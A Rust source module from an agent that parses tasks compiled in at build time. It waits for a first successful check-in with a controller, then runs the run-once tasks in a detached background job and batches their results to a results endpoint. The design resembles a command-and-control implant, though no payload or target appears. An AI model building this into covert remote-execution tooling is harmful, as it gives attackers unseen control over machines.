//! Pre-loaded tasks.
//!
//! Work items can be bundled into the agent at build time. They are parsed
//! once at startup and deliberately held back until the first successful
//! check-in proves the controller is reachable; only then do the run-once
//! items execute, exactly once each, with their results batched to the
//! embedded-results endpoint.

use crate::results::ResultSink;
use crate::tasks::WorkItem;
use crate::util::spawn_detached;
use std::sync::Arc;

/// Parse a pre-loaded task list. Empty input means no tasks; malformed input
/// is an error the caller logs and tolerates.
pub fn parse(raw: &str) -> Result<Vec<WorkItem>, serde_json::Error> {
    let raw = raw.trim();
    if raw.is_empty() || raw == "[]" {
        return Ok(Vec::new());
    }
    serde_json::from_str(raw)
}

/// Items compiled into this build, or none when parsing fails.
#[must_use]
pub fn load_deferred() -> Vec<WorkItem> {
    let raw = crate::config::build::TASKS.unwrap_or("[]");
    match parse(raw) {
        Ok(items) => {
            if !items.is_empty() {
                tracing::info!(count = items.len(), "loaded pre-loaded tasks");
            }
            items
        }
        Err(e) => {
            tracing::warn!("failed to parse pre-loaded tasks: {e}");
            Vec::new()
        }
    }
}

/// Release deferred items after the first successful check-in. Runs as a
/// detached task: the run-once items execute in order, results are batched,
/// and the check-in loop never waits for any of it.
pub fn release(items: Vec<WorkItem>, sink: Arc<ResultSink>) {
    let (run_once, skipped): (Vec<_>, Vec<_>) = items.into_iter().partition(|item| item.run_once);
    for item in &skipped {
        tracing::debug!(id = %item.id, "pre-loaded item without runOnce, skipping");
    }
    if run_once.is_empty() {
        return;
    }

    tracing::info!(count = run_once.len(), "releasing deferred pre-loaded tasks");
    spawn_detached(async move {
        let mut results = Vec::with_capacity(run_once.len());
        for item in &run_once {
            results.push(crate::tasks::execute(item).await);
        }
        sink.deliver_embedded_batch(&results).await;
    });
}
